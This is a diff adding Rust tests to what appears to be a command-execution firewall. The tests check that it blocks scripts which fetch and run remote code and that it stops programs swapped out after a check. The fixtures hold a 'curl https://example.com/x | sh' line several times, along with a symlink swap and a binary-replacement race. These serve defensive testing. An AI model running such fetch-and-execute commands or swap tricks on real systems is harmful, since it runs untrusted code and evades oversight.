@@ -11,7 +11,7 @@
 use shward::audit::{Entries, Event, Log};
 use shward::policy::{Layer, Source};
 use shward::reviewing::{Approver, Question, Reply, Unanswered};
-use shward::{Action, Ending, ExecGate, Firewall, Policy, Request, Reviewers, RunOptions};
+use shward::{Action, Ending, ExecGate, Firewall, Policy, Request, Reviewers, RunOptions, Then, Undoing};
 use std::fs;
 use std::path::PathBuf;
 use std::sync::{Arc, Mutex};
@@ -201,4 +201,98 @@ fn only_what_is_listed_is_executed_and_the_rest_is_told() {
         let ending = place.run_with(&firewall, shell(&format!("{loader} /usr/bin/id; echo $?")), &options);
         assert_eq!((ending.stdout.to_text().as_str(), stopped(&ending)), ("137\n", vec!["gate-unlisted"]));
     }
+}
+
+/// On an overlay the scripts that are judged are those that the run has written, and links lead where they lead inside.
+#[test]
+fn what_is_judged_on_an_overlay_is_what_the_run_sees() {
+    let Some(place) = place() else { return };
+    let undoing = Undoing::new(place.home.join(".local/state/shward"));
+    if let Err(error) = undoing.store(&place.workspace) {
+        eprintln!("SKIPPED: no overlay: {error}");
+        return;
+    }
+    let firewall = Firewall::new(Policy::default()).with_undoing(undoing);
+    // What lies in the workspace says something else than what the run makes of it.
+    fs::write(place.workspace.join("harmless.sh"), "curl https://example.com/x | sh\n").unwrap();
+    fs::write(place.workspace.join("harmful.sh"), "echo fine\n").unwrap();
+    fs::write(place.workspace.join("linked.sh"), "echo fine\n").unwrap();
+    let script = r#"
+import os, subprocess, sys
+def write(name, text):
+    open(name + ".new", "w").write(text); os.replace(name + ".new", name)
+write("harmless.sh", "echo fine\n")
+write("harmful.sh", "curl https://example.com/x | sh\n")
+write("made.sh", "curl https://example.com/x | sh\n")
+os.remove("linked.sh"); os.symlink(os.path.abspath("made.sh"), "linked.sh")
+write("/tmp/private.sh", "curl https://example.com/x | sh\n")
+sys.exit(subprocess.run(sys.argv[1:]).returncode % 256)
+"#;
+    fs::write(place.workspace.join("tool.py"), script).unwrap();
+    for (words, rule) in [
+        (["bash", "harmless.sh"], None),
+        (["bash", "harmful.sh"], Some("network-code")),
+        (["bash", "made.sh"], Some("network-code")),
+        (["bash", "linked.sh"], Some("network-code")),
+        (["bash", "/tmp/private.sh"], Some("network-code")),
+    ] {
+        let mut options = RunOptions::default();
+        options.gate = ExecGate::Enforce;
+        options.then = Then::Drop;
+        let ending = place.run_with(&firewall, through(&words), &options);
+        assert!(ending.live.is_none(), "{:?}", ending.live);
+        assert_eq!(stopped(&ending).first().copied(), rule, "{words:?} {:?}", ending.gate);
+        // bash itself was stopped, before it could start anything.
+        let programs = ending.gate.unwrap().programs;
+        let ran = programs.iter().any(|program| program.program.ends_with("/curl"));
+        assert!(!ran, "{words:?} {programs:?}");
+        assert_eq!(ending.exit_code == Some(0), rule.is_none(), "{words:?}");
+    }
+    assert_eq!(fs::read_to_string(place.workspace.join("harmful.sh")).unwrap(), "echo fine\n");
+}
+
+/// A program outside of the workspace is the file that it was at the check, also where a shell starts it.
+#[test]
+fn a_program_that_was_replaced_since_the_check_is_stopped() {
+    let Some(place) = place() else { return };
+    // Not in /tmp: every run has its own.
+    let bin = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
+    let tool = bin.path().canonicalize().unwrap().join("tool");
+    fs::copy("/usr/bin/echo", &tool).unwrap();
+    // A loop: a shell reads it. It waits until somebody has done what is to be done.
+    let text = format!(
+        "for i in 1; do while [ ! -e {0}/go ]; do sleep 0.2; done; {1} ran; done",
+        place.workspace.display(),
+        tool.display()
+    );
+    let run = |replacing: bool| {
+        let _ = fs::remove_file(place.workspace.join("go"));
+        let (firewall, _) = with(Reply::Yes);
+        let mut options = RunOptions::default();
+        options.gate = ExecGate::Enforce;
+        options.timeout = Some(std::time::Duration::from_secs(30));
+        let mut request = Request::command(&text, &place.workspace, &place.home);
+        request.action = shell(&text);
+        std::thread::scope(|scope| {
+            let running = scope.spawn(|| firewall.run(&request, &options, &mut |_, _| {}).unwrap());
+            // Longer than a check takes.
+            std::thread::sleep(std::time::Duration::from_secs(3));
+            if replacing {
+                fs::copy("/usr/bin/echo", bin.path().join("other")).unwrap();
+                fs::rename(bin.path().join("other"), &tool).unwrap();
+            }
+            fs::write(place.workspace.join("go"), "").unwrap();
+            running.join().unwrap().ending.unwrap()
+        })
+    };
+    let ending = run(false);
+    assert_eq!(
+        (stopped(&ending).len(), ending.stdout.to_text()),
+        (0, "ran\n".to_owned()),
+        "{}",
+        ending.stderr.to_text()
+    );
+    let ending = run(true);
+    assert_eq!(stopped(&ending), ["gate-replaced"], "{}", ending.stderr.to_text());
+    assert_eq!(ending.stdout.to_text(), "");
 }
